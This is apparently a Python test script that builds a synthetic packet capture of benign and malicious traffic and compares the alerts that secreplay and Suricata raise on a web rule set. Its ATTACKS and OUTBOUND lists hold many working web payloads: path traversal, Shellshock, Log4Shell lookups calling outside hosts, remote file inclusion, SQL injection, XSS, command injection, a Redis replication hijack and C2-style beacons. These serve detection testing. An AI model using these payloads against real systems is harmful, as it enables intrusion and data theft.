#!/usr/bin/env python3
"""Differential test: secreplay -S against Suricata 7 -S on the same rules and the same capture.

Generates a capture of benign browsing and of attacks aimed at tests/rules/data/et_web.rules
(HTTP requests and responses, one transaction per connection, some split into small segments;
DNS over UDP; plain TCP services), runs `suricata -r` and `secreplay -S --eve` on it and
compares the sets of (connection, sid) alert pairs. A connection is named by its client port.

    suricata_alerts.py SECREPLAY [--rules FILE] [--benign N] [--attacks N] [--seed S] [--min-agree PCT] [--keep DIR]
Prints `rules.agree_pct.suricata_found=` (share of Suricata's pairs we also found),
`rules.agree_pct.we_found=` (share of ours Suricata also found) and every differing pair.
Exit 0 when both are >= --min-agree (default 95), 77 when suricata is not installed.
"""
import argparse
import json
import os
import random
import shutil
import struct
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'http'))
from pcapgen import PcapWriter, TcpSession, udp  # noqa: E402
from suricata_peer import run_suricata  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
ATTACKER, SERVER, INSIDE, OUTSIDE_SERVER = '203.0.113.7', '10.0.0.20', '10.0.0.30', '198.51.100.9'

BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0'
BENIGN_PATHS = ['/', '/index.html', '/images/logo.png', '/css/site.css', '/js/app.js', '/about', '/products?id=42',
                '/search?q=union+station', "/search?q=o'neil+boots", '/search?q=select+a+size', '/blog/2024/01/hello-world',
                '/api/v1/items?page=2&sort=name', '/contact', '/faq#shipping', '/search?q=drop+by+at+5', '/cart?add=17',
                '/docs/scripting-guide.pdf', '/news?topic=benchmark+results', '/login', '/healthz']
BENIGN_AGENTS = [BROWSER, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36',
                 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148']

# (method, target, extra headers, body, response kind): aimed at the rule file's categories.
ATTACKS = [
    ('GET', '/cgi-bin/view?file=../../../../etc/passwd', {}, b'', 'passwd'),
    ('GET', '/download?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd', {}, b'', 'passwd'),
    ('GET', '/icons/.%2e/.%2e/.%2e/etc/passwd', {}, b'', 'passwd'),
    ('GET', '/scripts/..%255c../winnt/system32/cmd.exe?/c+dir', {}, b'', '404'),
    ('GET', '/cgi-bin/test.cgi', {'User-Agent': '() { :; }; /bin/bash -c "id"'}, b'', 'id'),
    ('GET', '/cgi-bin/status', {'Referer': '() { ignored; }; echo vulnerable'}, b'', '200'),
    ('GET', '/?x=${jndi:ldap://198.51.100.9:1389/a}', {}, b'', '200'),
    ('GET', '/', {'X-Api-Version': '${jndi:ldap://evil.example/x}', 'User-Agent': '${jndi:ldap://x/y}'}, b'', '200'),
    ('GET', '/index.php?page=php://filter/convert.base64-encode/resource=index', {}, b'', '200'),
    ('GET', '/index.php?page=http://198.51.100.9/shell.txt', {}, b'', '200'),
    ('GET', '/.htaccess', {}, b'', '403'),
    ('GET', '/.git/config', {}, b'', '200'),
    ('GET', '/.env', {}, b'', '404'),
    ('TRACE', '/', {}, b'', '405'),
    ('PROPFIND', '/webdav/', {}, b'', '207'),
    ('GET', '/file.php?name=shell.php%00.jpg', {}, b'', '404'),
    ('GET', '/static/..%252f..%252fetc/passwd', {}, b'', '404'),
    ('POST', '/wp-login.php', {'Content-Type': 'application/x-www-form-urlencoded'}, b'log=admin&pwd=admin123', '200'),
    ('POST', '/xmlrpc.php', {'Content-Type': 'text/xml'}, b'<methodCall><methodName>system.listMethods</methodName></methodCall>', '200'),
    ('GET', '/phpmyadmin/scripts/setup.php', {}, b'', '404'),
    ('POST', '/struts2/upload.action', {'Content-Type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"}, b'x', '500'),
    ('GET', '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id', {}, b'', 'id'),
    ('POST', '/user/register?element_parents=account/mail/%23value&ajax_form=1', {'Content-Type': 'application/x-www-form-urlencoded'},
     b'form_id=user_register_form&mail[#post_render][]=exec&mail[#markup]=id', 'id'),
    ('GET', '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*', {}, b'', '200'),
    ('POST', '/boaform/admin/formLogin', {'Content-Type': 'application/x-www-form-urlencoded'}, b'username=admin&psd=Feefifofum', '200'),
    ('GET', '/HNAP1/', {}, b'', '200'),
    ('POST', '/script', {'Content-Type': 'application/x-www-form-urlencoded'}, b'script=println+"id".execute().text', 'id'),
    ('POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', {'Content-Type': 'text/plain'}, b'<?php echo md5(1); ?>', '200'),
    ('GET', '/actuator/env', {}, b'', '200'),
    ('GET', '/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--', {}, b'', 'sqlerr'),
    ('GET', '/items?id=1+AND+SLEEP(5)', {}, b'', '200'),
    ('GET', '/items?id=1%20AND%20BENCHMARK(5000000,MD5(1))', {}, b'', '200'),
    ('GET', '/items?id=1 UNION ALL SELECT table_name FROM information_schema.tables', {}, b'', 'sqlerr'),
    ('GET', "/items?id=1';WAITFOR%20DELAY%20'0:0:5'--", {}, b'', '200'),
    ('GET', "/login?user=admin'%20or%201=1--&pass=x", {}, b'', '401'),
    ('POST', '/search', {'Content-Type': 'application/x-www-form-urlencoded'}, b"q=x' UNION SELECT null,version()-- -", 'sqlerr'),
    ('GET', "/items?id=1;EXEC%20xp_cmdshell('dir')", {}, b'', '500'),
    ('GET', '/items?id=-1+union+select+concat(0x7e,user(),0x7e)', {}, b'', 'sqlerr'),
    ('GET', '/account', {'Cookie': "uid=1' or '1'='1"}, b'', '200'),
    ('GET', '/search?q=<script>alert(document.cookie)</script>', {}, b'', '200'),
    ('GET', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', {}, b'', '200'),
    ('GET', '/search?q=<img src=x onerror=alert(1)>', {}, b'', '200'),
    ('GET', '/redirect?url=javascript:alert(1)', {}, b'', '302'),
    ('GET', '/search?q=<svg/onload=alert(1)>', {}, b'', '200'),
    ('POST', '/comment', {'Content-Type': 'application/x-www-form-urlencoded'}, b'text=<script>steal()</script>', '200'),
    ('GET', '/page', {'Referer': 'http://x/<script>alert(1)</script>'}, b'', '200'),
    ('GET', '/', {'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'}, b'', '404'),
    ('GET', '/items?id=1', {'User-Agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)'}, b'', '200'),
    ('GET', '/', {'User-Agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'}, b'', '200'),
    ('GET', '/', {'User-Agent': 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)'}, b'', '200'),
    ('GET', '/', {'User-Agent': 'Mozilla/5.0 zgrab/0.x'}, b'', '200'),
    ('GET', '/admin/', {'User-Agent': 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)'}, b'', '404'),
    ('GET', '/', {'User-Agent': 'Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'}, b'', '200'),
    ('GET', '/wp-content/plugins/', {'User-Agent': 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)'}, b'', '404'),
    ('GET', '/acunetix-wvs-test', {'Acunetix-Product': 'WVS/12.0', 'User-Agent': BROWSER}, b'', '404'),
    ('GET', '/no-agent', {'User-Agent': None}, b'', '200'),
    ('GET', '/', {'User-Agent': 'curl/7.88.1'}, b'', '200'),
    ('GET', '/', {'User-Agent': 'Go-http-client/1.1'}, b'', '200'),
    ('GET', '/private/', {'Authorization': 'Basic YWRtaW46YWRtaW4='}, b'', '200'),
    ('GET', '/files/', {}, b'', 'listing'),
    ('GET', '/debug?x=1', {}, b'', 'phpwarn'),
    ('GET', '/api/crash', {}, b'', 'traceback'),
    ('GET', '/old', {}, b'', 'apache22'),
    ('GET', '/shell/c99.php?act=ls', {}, b'', '200'),
    ('POST', '/upload.php', {'Content-Type': 'application/x-www-form-urlencoded'}, b'c=eval(base64_decode("ZWNobyAxOw=="));', '200'),
    ('POST', '/login', {'Content-Type': 'application/x-www-form-urlencoded'}, b'user=bob&pass=wrong', '401'),
]

# Outbound (inside client to outside server): the TROJAN and USER_AGENTS outbound rules.
OUTBOUND = [
    ('POST', '/gate.php', {'User-Agent': 'Mozilla/5.0'}, b'id=123&os=win10', '200'),
    ('GET', '/index.php?id=8f3a', {'User-Agent': 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)'}, b'', '200'),
    ('GET', '/poll', {'Cookie': 'session=abcd; uid=77', 'User-Agent': BROWSER}, b'', '200'),
    ('GET', '/cfg.bin', {'Host': 'update-check.top', 'User-Agent': BROWSER}, b'', 'exe'),
    ('GET', '/update.exe', {'Host': 'downloads.example', 'User-Agent': BROWSER}, b'', 'exe'),
    ('GET', '/data', {'User-Agent': 'python-requests/2.31.0'}, b'', '200'),
]

RESPONSES = {
    '200': (200, 'OK', 'text/html', b'<html><body>ok</body></html>'),
    'passwd': (200, 'OK', 'text/plain', b'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n'),
    'id': (200, 'OK', 'text/plain', b'uid=0(root) gid=0(root) groups=0(root)\n'),
    '404': (404, 'Not Found', 'text/html', b'<html><body>not found</body></html>'),
    '401': (401, 'Unauthorized', 'text/html', b'denied'),
    '403': (403, 'Forbidden', 'text/html', b'forbidden'),
    '405': (405, 'Method Not Allowed', 'text/html', b''),
    '207': (207, 'Multi-Status', 'application/xml', b'<multistatus/>'),
    '302': (302, 'Found', 'text/html', b''),
    '500': (500, 'Internal Server Error', 'text/html', b'error'),
    'sqlerr': (500, 'Internal Server Error', 'text/html', b'<b>You have an error in your SQL syntax; check the manual</b>'),
    'listing': (200, 'OK', 'text/html', b'<html><head><title>Index of /files</title></head><body>..</body></html>'),
    'phpwarn': (200, 'OK', 'text/html', b'<b>Warning</b>:  include(x): failed to open stream in <b>/var/www/a.php</b> on line <b>3</b>'),
    'traceback': (500, 'Internal Server Error', 'text/plain', b'Traceback (most recent call last):\n  File "app.py", line 3\n'),
    'apache22': (200, 'OK', 'text/html', b'old'),
    'exe': (200, 'OK', 'application/x-msdownload', b'MZ\x90\x00\x03' + b'\x00' * 59 + b'This program cannot be run in DOS mode.\r\r\n$'),
}


def request_bytes(method, target, headers, body, host):
    h = {'Host': host, 'User-Agent': BROWSER, 'Accept': '*/*'}
    for k, v in headers.items():
        if v is None:
            h.pop(k, None)
        else:
            h[k] = v
    if body:
        h['Content-Length'] = str(len(body))
    text = f'{method} {target} HTTP/1.1\r\n' + ''.join(f'{k}: {v}\r\n' for k, v in h.items()) + '\r\n'
    return text.encode('latin-1') + body


def response_bytes(kind, method):
    code, reason, ctype, body = RESPONSES[kind]
    server = 'Apache/2.2.15 (CentOS)' if kind == 'apache22' else 'nginx'
    head = f'HTTP/1.1 {code} {reason}\r\nServer: {server}\r\nContent-Type: {ctype}\r\nContent-Length: {len(body)}\r\n\r\n'
    return head.encode() + (b'' if method == 'HEAD' else body)


def dns_query(name, qid):
    m = struct.pack('!HHHHHH', qid, 0x0100, 1, 0, 0, 0)
    for label in name.split('.'):
        m += bytes([len(label)]) + label.encode()
    return m + b'\0' + struct.pack('!HH', 1, 1)


def build(path, rng, n_benign, n_attacks):
    w = PcapWriter(path)
    port = 20000
    sessions = []

    def http_session(client, server, method, target, headers, body, kind, host):
        nonlocal port
        port += 1
        s = TcpSession(w, (client, port), (server, 80))
        s.open()
        seg = rng.choice([1400, 1400, 1400, 40, 9])
        s.client(request_bytes(method, target, headers, body, host), segment=seg)
        s.server(response_bytes(kind, method), segment=rng.choice([1400, 1400, 25]))
        s.close()
        sessions.append(port)

    for _ in range(n_benign):
        path_ = rng.choice(BENIGN_PATHS)
        if path_ == '/login':
            http_session(ATTACKER, SERVER, 'GET', path_, {'User-Agent': rng.choice(BENIGN_AGENTS)}, b'', '200', 'www.example.com')
        else:
            http_session(ATTACKER, SERVER, 'GET', path_, {'User-Agent': rng.choice(BENIGN_AGENTS), 'Referer': 'https://www.example.com/'},
                         b'', rng.choice(['200', '200', '200', '404']), 'www.example.com')
    for _ in range(n_attacks):
        method, target, headers, body, kind = rng.choice(ATTACKS)
        http_session(ATTACKER, SERVER, method, target, headers, body, kind, rng.choice(['www.example.com', '10.0.0.20']))
    for method, target, headers, body, kind in OUTBOUND:
        host = headers.get('Host', 'c2.example.net')
        http_session(INSIDE, OUTSIDE_SERVER, method, target, {k: v for k, v in headers.items() if k != 'Host'}, body, kind, host)
    # Plain TCP services and DNS.
    for dport, payload in ((23, b'root\r\n'), (6379, b'CONFIG SET dir /tmp\r\n'), (6379, b'SLAVEOF 198.51.100.9 6379\r\n'),
                           (11211, b'stats\r\n'), (4444, b'MZ\x90\x00stage')):
        port += 1
        s = TcpSession(w, (ATTACKER, port), (SERVER, dport))
        s.open()
        s.client(payload)
        s.close()
        sessions.append(port)
    for name in ('www.example.com', 'abcdefghijklmnopqrstuvwxyz.onion', 'home.duckdns.org',
                 'aGVsbG8gd29ybGQgdGhpcyBpcyBhIHR1bm5lbGVkIHBheWxvYWQgb2YgbWFueSBieXRlcw.t.example', 'malware-c2.example.net'):
        port += 1
        udp(w, (INSIDE, port), ('10.0.0.53', 53), dns_query(name, port & 0xFFFF))
        sessions.append(port)
    port += 1
    udp(w, (ATTACKER, port), (SERVER, 11211), b'\x00\x00\x00\x00\x00\x01\x00\x00stats\r\n')
    w.close()
    return sessions


def pairs_from_eve(path):
    out = set()
    with open(path) as f:
        for line in f:
            e = json.loads(line)
            if e.get('event_type') != 'alert':
                continue
            client_port = e['src_port'] if e.get('direction', 'to_server') == 'to_server' or e['src_port'] >= 20000 else e['dest_port']
            if e['src_port'] >= 20000:
                client_port = e['src_port']
            elif e.get('dest_port', 0) >= 20000:
                client_port = e['dest_port']
            out.add((client_port, e['alert']['signature_id']))
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('secreplay')
    ap.add_argument('--rules', default=os.path.join(HERE, 'data', 'et_web.rules'))
    ap.add_argument('--benign', type=int, default=300)
    ap.add_argument('--attacks', type=int, default=300)
    ap.add_argument('--seed', type=int, default=1)
    ap.add_argument('--min-agree', type=float, default=95.0)
    ap.add_argument('--keep')
    ap.add_argument('--secrules', help='also replay with the database compiled by this secrules: same alerts')
    args = ap.parse_args()
    if not shutil.which('suricata'):
        print('suricata_alerts: SKIP: suricata not installed')
        return 77
    rng = random.Random(args.seed)
    work = args.keep or tempfile.mkdtemp(prefix='suri-alerts-')
    os.makedirs(work, exist_ok=True)
    pcap = os.path.join(work, 'traffic.pcap')
    build(pcap, rng, args.benign, args.attacks)
    # --simulate-ips: drop rules drop the flow, as they do inline (and as secreplay does).
    eve = run_suricata(pcap, args.rules, os.path.join(work, 'suricata'), simulate_ips=True)
    theirs = pairs_from_eve(eve)
    ours_path = os.path.join(work, 'secreplay.eve.json')
    with open(ours_path, 'w') as f:
        # The injection detector off: the comparison is of the rule engines alone.
        subprocess.run([args.secreplay, '-S', args.rules, '--no-detect', '--eve', pcap], check=True, stdout=f, stderr=subprocess.DEVNULL)
    ours = pairs_from_eve(ours_path)
    db_differs = False
    if args.secrules:  # the compiled database (secrules compile -o) gives the same alerts as the text
        db = os.path.join(work, 'rules.db')
        subprocess.run([args.secrules, 'compile', args.rules, '-o', db], check=True, stdout=subprocess.DEVNULL)
        db_eve = os.path.join(work, 'secreplay.db.eve.json')
        with open(db_eve, 'w') as f:
            subprocess.run([args.secreplay, '-S', db, '--no-detect', '--eve', pcap], check=True, stdout=f, stderr=subprocess.DEVNULL)
        db_differs = pairs_from_eve(db_eve) != ours
        print(f'suricata_alerts: compiled database {"DIFFERS from" if db_differs else "agrees with"} the rule text')
    both = ours & theirs
    found = 100.0 * len(both) / len(theirs) if theirs else 100.0
    precise = 100.0 * len(both) / len(ours) if ours else 100.0
    for p in sorted(theirs - ours)[:40]:
        print(f'missed   connection={p[0]} sid={p[1]}')
    for p in sorted(ours - theirs)[:40]:
        print(f'extra    connection={p[0]} sid={p[1]}')
    print(f'suricata_alerts: suricata {len(theirs)} pairs, secreplay {len(ours)} pairs, {len(both)} in both')
    print(f'rules.agree_pct.suricata_found={found:.2f}')
    print(f'rules.agree_pct.we_found={precise:.2f}')
    if not args.keep:
        shutil.rmtree(work)
    return 0 if found >= args.min_agree and precise >= args.min_agree and theirs and not db_differs else 1


if __name__ == '__main__':
    sys.exit(main())
